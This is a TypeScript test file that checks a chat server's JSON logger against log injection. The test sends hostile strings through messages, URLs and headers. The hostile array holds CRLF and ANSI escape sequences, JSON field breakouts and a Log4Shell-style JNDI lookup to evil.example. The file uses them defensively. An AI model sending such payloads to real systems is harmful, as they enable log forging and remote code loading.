import { afterAll, beforeAll, expect, test } from 'vitest'
import { createLog } from '../../src/log.ts'
import { openServer, type TestServer } from '../http/openServer.ts'

const written: string[] = []
let server: TestServer
beforeAll(async () => {
  server = await openServer({ log: createLog('debug', { write: (line) => void written.push(line) }) })
})
afterAll(() => server.close())

/** Texts that would end a line, begin a false one, or speak to a terminal. */
const hostile = [
  'x\n{"level":50,"what":"FORGED"}',
  'x\r\nFORGED',
  '\u001b[2J\u001b]0;FORGED\u0007',
  '\u0085FORGED\u2028FORGED\u2029',
  '\b\b\b\bFORGED',
  '","what":"FORGED","x":"',
  `${'$'}{jndi:ldap://evil.example/FORGED}`,
  '%0d%0aFORGED %1b[31m',
]

test.each(hostile)('a text of a stranger ends no line of the log, and stands in none: %j', async (text) => {
  written.length = 0
  const { token, conversationId } = await server.token()
  const own = `/v3/directline/conversations/${conversationId}`
  const inAddress = encodeURIComponent(text)
  const inHeader = text.replace(/[^\x20-\x7e]/g, '')
  await server.call('POST', `${own}/activities`, token, {
    type: 'message',
    text,
    value: text,
    channelData: { clientActivityID: text },
  })
  await server.call('POST', `${own}/activities`, token, { type: text, name: text })
  await server.call('POST', `${own}/activities`, token, text)
  await server.call('GET', `/v3/directline/conversations/${inAddress}/activities?watermark=${inAddress}`, token)
  await server.call('GET', `/${inAddress}`)
  await server.call('POST', '/chat/token', undefined, { site: text, identity: text, resume: text, page: text })
  await server.call('GET', '/healthz', undefined, undefined, {
    'x-request-id': `no id: ${inHeader}`,
    'user-agent': inHeader,
    referer: inHeader,
    cookie: inHeader,
  })
  server.log.fault(new Error(text), 'something failed') // what a library quotes of it
  expect(written.length).toBeGreaterThan(5)
  for (const line of written) {
    expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\u2028\u2029]/u)
    expect(line.endsWith('\n')).toBe(true)
    expect(JSON.parse(line).what).not.toBe('FORGED')
  }
  const ofStrangers = written.filter((line) => JSON.parse(line).what !== 'something failed')
  expect(ofStrangers.filter((line) => line.includes('FORGED'))).toEqual([])
})
